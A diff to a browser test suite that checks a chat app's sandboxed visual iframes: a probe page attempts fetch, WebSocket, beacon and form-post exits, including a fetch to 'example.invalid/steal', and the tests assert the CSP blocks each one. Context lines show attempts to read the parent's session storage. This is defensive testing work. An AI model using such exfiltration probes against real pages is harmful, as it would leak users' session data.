@@ -33,6 +33,24 @@ attempt('parentStorage', () => parent.localStorage.getItem('tether.session'));
 attempt('origin', () => self.origin);
 parent.postMessage({ probe: out }, '*');
 parent.postMessage({ tetherVisual: 'height', height: 234 }, '*');
+// And every way out of the page: the relay's CSP for visuals lets none of them leave.
+const refused = [];
+document.addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective));
+const net = {};
+const tries = [
+  ['fetch', () => fetch(location.origin + '/api/health').then(() => 'reached', (e) => 'error:' + e.name)],
+  ['fetchAway', () => fetch('https://example.invalid/steal').then(() => 'reached', (e) => 'error:' + e.name)],
+  ['socket', () => new Promise((done) => { try { const ws = new WebSocket(location.origin.replace('http', 'ws') + '/'); ws.onopen = () => done('reached'); ws.onerror = () => done('error'); } catch (e) { done('error:' + e.name); } })],
+  ['beacon', async () => String(navigator.sendBeacon(location.origin + '/api/health', 'x'))],
+];
+Promise.all(tries.map(async ([name, run]) => { net[name] = await run(); })).then(() => {
+  const form = document.createElement('form');
+  form.method = 'post';
+  form.action = location.origin + '/api/health';
+  document.body.append(form);
+  form.submit();
+  setTimeout(() => parent.postMessage({ probeNet: { ...net, refused: [...new Set(refused)].sort() } }, '*'), 200);
+});
 </script></body></html>`;
 
 /** Heights the publisher measured at three widths: the frame takes the taller neighbour of its width. */
@@ -146,7 +164,8 @@ const appErrors = (person: SignedInPerson) => person.errors;
 
 /** axe on the parts this file's components draw: no violations (labels, roles, names, contrast). */
 async function checkAccessible(page: Page, selectors: string[]): Promise<void> {
-  await page.addScriptTag({ content: axeSource });
+  // Evaluated by the browser's debugger, not as an inline <script>, which the app's CSP refuses.
+  await page.evaluate(axeSource);
   const violations = await page.evaluate(async (include) => {
     const axe = (window as unknown as { axe: { run(ctx: unknown, opts: unknown): Promise<{ violations: Array<{ id: string; nodes: Array<{ target: unknown }> }> }> } }).axe;
     const present = include.filter((s) => document.querySelector(s));
@@ -387,6 +406,10 @@ describe('chat interactions in the browser', () => {
     expect(probe.parentDocument).toBe('error:SecurityError');
     expect(probe.parentStorage).toBe('error:SecurityError');
     expect(probe.origin).toBe('value:null');
+    // Nothing leaves the page: fetch, sockets and beacons are refused, and so is sending a form.
+    const net = await eventually(() => page.evaluate(() => (window as unknown as { probes: Array<{ probeNet?: Record<string, unknown> }> }).probes.find((m) => m.probeNet)?.probeNet), 'the network probe reported');
+    expect(net).toMatchObject({ fetch: 'error:TypeError', fetchAway: 'error:TypeError', socket: expect.stringMatching(/^error/), beacon: 'false' });
+    expect(net.refused).toEqual(expect.arrayContaining(['connect-src', 'form-action']));
     // The page asked for its height; the frame took it (within the visual's limits).
     await poll(() => frame.evaluate((el) => el.getBoundingClientRect().height)).toBe(234);
     // A visual that says nothing is as tall as its publisher measured it at the frame's width.
